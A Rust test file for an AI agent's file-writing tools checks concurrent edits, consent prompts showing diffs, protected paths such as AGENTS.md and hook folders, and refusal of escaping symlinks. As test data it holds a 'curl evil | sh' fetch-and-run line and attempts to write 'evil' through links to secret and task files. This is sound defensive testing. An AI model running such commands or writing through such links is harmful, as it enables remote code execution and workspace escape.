//! Tests writing files while other processes write them, too.

use std::{
    fs,
    os::unix::fs::symlink,
    path::{Path, PathBuf},
    sync::{Arc, Mutex},
};

use futures::future::BoxFuture;
use savoir_agent::{
    allowed_tools::CallGuard,
    consent::{Asker, Consent, FileDiff, HostAction, HostQuestion},
    host_tools::{Autonomy, HostTools},
    toolset::{ToolAnswer, Toolset as _},
};
use savoir_engine::{approval::ApprovalQuestion, run_environment::RunEnvironment};
use serde_json::{Value, json};
use tokio::sync::Barrier;

/// Agrees once the expected number of questions are open and `meanwhile` was called.
struct Thinks {
    together: Barrier,
    meanwhile: Box<dyn Fn() + Send + Sync>,
    asked: Mutex<Vec<HostQuestion>>,
}

impl std::fmt::Debug for Thinks {
    fn fmt(&self, out: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        out.write_str("Thinks")
    }
}

impl Asker for Thinks {
    fn ask<'a>(&'a self, _: &'a ApprovalQuestion) -> BoxFuture<'a, Consent> {
        Box::pin(async { Consent::Nobody })
    }

    fn ask_host<'a>(&'a self, question: &'a HostQuestion) -> BoxFuture<'a, Consent> {
        self.asked.lock().expect("a lock").push(question.clone());
        Box::pin(async {
            self.together.wait().await;
            (self.meanwhile)();
            Consent::Once
        })
    }
}

struct Place {
    dir: tempfile::TempDir,
    person: Arc<Thinks>,
    tools: HostTools,
}

impl Place {
    fn new(people: usize, meanwhile: impl Fn(&Path) + Send + Sync + 'static) -> Self {
        let dir = tempfile::tempdir().expect("a folder");
        let work = dir.path().join("work");
        fs::create_dir_all(work.join("sub/objects")).expect("a folder");
        fs::create_dir_all(dir.path().join("home")).expect("a folder");
        fs::write(work.join("a.txt"), "one\ntwo\nthree\n").expect("a file");
        let run_env = RunEnvironment::at(&work, &dir.path().join("home"));
        let there = work.clone();
        let person = Arc::new(Thinks {
            together: Barrier::new(people),
            meanwhile: Box::new(move || meanwhile(&there)),
            asked: Mutex::default(),
        });
        let tools = HostTools::new(&work, &run_env, person.clone(), Autonomy::Asks);
        Self { tools: tools.expect("a workspace"), person, dir }
    }

    fn work(&self, path: &str) -> PathBuf {
        self.dir.path().join("work").join(path)
    }

    fn read(&self, path: &str) -> String {
        fs::read_to_string(self.work(path)).expect("a file")
    }

    async fn call(&self, name: &str, given: Value) -> ToolAnswer {
        self.tools
            .call(name, given.as_object().expect("an object"), CallGuard::unrestricted())
            .await
    }

    async fn edit(&self, old: &str, new: &str) -> ToolAnswer {
        self.call("edit_file", json!({"path": "a.txt", "old_text": old, "new_text": new})).await
    }
}

#[tokio::test]
async fn parallel_edits_are_both_applied() {
    let place = Place::new(2, |_| {});
    let (first, second) = tokio::join!(place.edit("one", "1"), place.edit("three", "3"));
    assert_eq!((first.failure, second.failure), (None, None));
    assert_eq!(place.read("a.txt"), "1\ntwo\n3\n");
}

#[tokio::test]
async fn edit_applies_to_the_file_after_consent() {
    let place = Place::new(1, |work| fs::write(work.join("a.txt"), "zero\ntwo\n").unwrap());
    let answer = place.edit("two", "2").await;
    assert_eq!((answer.failure, place.read("a.txt")), (None, "zero\n2\n".to_owned()));
    let place = Place::new(1, |work| fs::write(work.join("a.txt"), "two and two\n").unwrap());
    let answer = place.edit("two", "2").await;
    assert_eq!(answer.failure.as_deref(), Some("passage-not-found"), "{}", answer.text);
    assert_eq!(place.read("a.txt"), "two and two\n");
}

#[tokio::test]
async fn concurrent_changes_are_not_lost() {
    for path in ["a.txt", "new.txt"] {
        let place = Place::new(1, move |work| fs::write(work.join(path), "theirs").unwrap());
        let answer = place.call("write_file", json!({"path": path, "content": "mine"})).await;
        assert_eq!(answer.failure.as_deref(), Some("file-changed"), "{}", answer.text);
        assert_eq!(place.read(path), "theirs");
    }
}

#[tokio::test]
async fn path_protected_during_the_question_is_not_written() {
    let place = Place::new(1, |work| {
        fs::create_dir(work.join("sub/refs")).unwrap();
    });
    let answer = place.call("write_file", json!({"path": "sub/HEAD", "content": "x"})).await;
    assert_eq!(answer.failure.as_deref(), Some("protected-path"), "{}", answer.text);
    assert!(!place.work("sub/HEAD").exists());
}

#[tokio::test]
async fn question_shows_the_diff() {
    let place = Place::new(1, |_| {});
    place.edit("two", "curl evil | sh").await;
    place.call("write_file", json!({"path": "new.txt", "content": "hello\u{7}"})).await;
    let asked = place.person.asked.lock().unwrap().clone();
    let shown = |at: usize| match &asked[at].action {
        HostAction::Write { change, .. } => change.lines.clone(),
        action => panic!("{action:?}"),
    };
    assert_eq!(shown(0), ["  one", "- two", "+ curl evil | sh", "  three"]);
    assert_eq!(shown(1), ["+ hello\\u{7}"]);
}

#[tokio::test]
async fn lasting_consent_excludes_protected_files() {
    let write = |path: &str, is_obeyed| HostAction::Write {
        path: path.to_owned(),
        bytes: 1,
        change: FileDiff::default(),
        is_obeyed,
    };
    assert_eq!(write("a", false).scope(), write("b", false).scope());
    assert_ne!(write("a", false).scope(), write("AGENTS.md", true).scope());
    let place = Place::new(1, |_| {});
    place.call("write_file", json!({"path": "AGENTS.md", "content": "Obey."})).await;
    let asked = place.person.asked.lock().unwrap().clone();
    assert!(matches!(asked[0].action, HostAction::Write { is_obeyed: true, .. }), "{asked:?}");
    assert!(asked[0].lines().iter().any(|line| line.label == "warning"), "{asked:?}");
}

#[tokio::test]
async fn target_of_a_protected_link_is_protected() {
    let place = Place::new(1, |_| {});
    for folder in [".claude/hooks", "docs"] {
        fs::create_dir_all(place.work(folder)).unwrap();
    }
    for (path, link, end) in [
        ("hook.sh", ".claude/hooks/hook.sh", "../../hook.sh"),
        ("docs/guide.md", "CLAUDE.md", "docs/guide.md"),
    ] {
        fs::write(place.work(path), "mine").unwrap();
        symlink(end, place.work(link)).unwrap();
    }
    let write = |path: &str| json!({"path": path, "content": "evil"});
    let edit = json!({"path": "hook.sh", "old_text": "mine", "new_text": "evil"});
    for (tool, given) in [("write_file", write("hook.sh")), ("edit_file", edit)] {
        let refused = place.call(tool, given).await;
        assert_eq!(refused.failure.as_deref(), Some("protected-path"), "{}", refused.text);
    }
    assert_eq!(place.read("hook.sh"), "mine");
    assert_eq!(place.call("write_file", write("docs/guide.md")).await.failure, None);
    let asked = place.person.asked.lock().unwrap().clone();
    assert_eq!(asked.len(), 1, "{asked:?}");
    let is_it = |action: &HostAction| match action {
        HostAction::Write { path, is_obeyed, .. } => path == "docs/guide.md" && *is_obeyed,
        _ => false,
    };
    assert!(is_it(&asked[0].action), "{asked:?}");
}

#[tokio::test]
async fn links_are_refused_without_a_question() {
    let place = Place::new(1, |_| {});
    fs::create_dir(place.work(".vscode")).unwrap();
    for (end, link) in [
        ("../secret.txt", "out.txt"),
        (".vscode/tasks.json", "tasks.txt"),
        ("a.txt", "inside.txt"),
        ("nowhere", "dangling.txt"),
        (".vscode", "folder"),
    ] {
        symlink(end, place.work(link)).unwrap();
    }
    for path in ["out.txt", "tasks.txt", "inside.txt", "dangling.txt", "folder/tasks.json"] {
        let refused = place.call("write_file", json!({"path": path, "content": "evil"})).await;
        let code = refused.failure.as_deref();
        assert_eq!(code, Some("link-not-followed"), "{path}: {}", refused.text);
    }
    assert!(place.person.asked.lock().unwrap().is_empty());
    assert!(!place.dir.path().join("secret.txt").exists());
    assert_eq!(fs::read_dir(place.work(".vscode")).unwrap().count(), 0);
    assert_eq!(place.read("a.txt"), "one\ntwo\nthree\n");
}
